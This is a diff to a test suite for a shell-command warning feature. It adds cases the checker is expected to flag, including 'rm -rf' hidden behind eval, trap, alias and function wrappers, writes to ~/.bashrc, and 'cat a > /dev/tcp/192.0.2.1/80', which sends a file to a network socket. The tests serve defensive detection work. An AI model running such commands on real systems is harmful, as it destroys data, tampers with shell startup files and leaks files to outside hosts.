@@ -73,6 +73,17 @@ describe('The warning about a command', () => {
 		sh('sh <<END\nrm -rf a\nEND'),
 		sh('echo x > ~/.bashrc'),
 		sh('r\\m -r""f a'),
+		sh('eval rm -rf a'),
+		sh('eval "rm -rf a"'),
+		sh('builtin eval rm -rf a'),
+		sh('coproc rm -rf a'),
+		sh('trap "rm -rf a" EXIT'),
+		sh('alias ls="rm -rf a"; ls'),
+		sh('f() { rm -rf a; }; f'),
+		sh('exec 3<>/dev/tcp/192.0.2.1/80'),
+		sh('cat a > /dev/tcp/192.0.2.1/80'),
+		sh('exec 3>~/.bashrc'),
+		sh('exec 3<>~/.bashrc'),
 	];
 	for (const argv of dangerous) {
 		it(`calls dangerous: ${argv.join(' ')}`, () => {
@@ -120,6 +131,8 @@ describe('The warning about a command', () => {
 		sh('npm test > /dev/null 2>&1'),
 		sh('make > build.log 2> errors.log'),
 		sh('cat a > /tmp/out'),
+		sh('exec 3<>notes.txt'),
+		sh('trap "" INT; alias ll="ls -l"; eval ls'),
 	];
 	for (const argv of harmless) {
 		it(`raises no alarm for: ${argv.join(' ')}`, () => {
